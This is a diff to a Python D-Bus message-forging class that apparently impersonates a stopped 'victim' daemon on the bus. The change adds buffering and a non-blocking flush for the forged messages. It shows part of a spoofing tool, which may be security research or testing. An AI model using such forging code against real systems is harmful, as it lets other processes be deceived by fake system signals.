@@ -7,6 +7,7 @@ import socket
 import struct
 
 PROPERTIES = "org.freedesktop.DBus.Properties"
+WAITING_MOST = 65536  # bytes; what is forged meanwhile is left out
 
 
 class Writer:
@@ -54,7 +55,7 @@ class Writer:
 class Forger:
     def __init__(self, path, pid):
         """@path: of the bus's socket; @pid: of the daemon. Without it on the bus, @victim is None."""
-        self.victim, self.serial, self.held = None, 0, b""
+        self.victim, self.serial, self.held, self.waiting = None, 0, b"", bytearray()
         self.socket = socket.socket(socket.AF_UNIX)
         self.socket.connect(path)
         self.socket.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
@@ -104,7 +105,17 @@ class Forger:
 
         head.array(8, [writes(*field) for field in fields])
         head.align(8)
-        self.socket.sendall(bytes(head.bytes) + body)
+        # while the daemon is stopped, the bus takes no more for it; a message that has begun must go out whole
+        if len(self.waiting) < WAITING_MOST:
+            self.waiting += bytes(head.bytes) + body
+        self.flush()
+
+    def flush(self):
+        try:
+            while self.waiting:
+                del self.waiting[:self.socket.send(self.waiting)]
+        except BlockingIOError:
+            pass
 
     def signal(self, path, interface, member, signature, body):
         try:
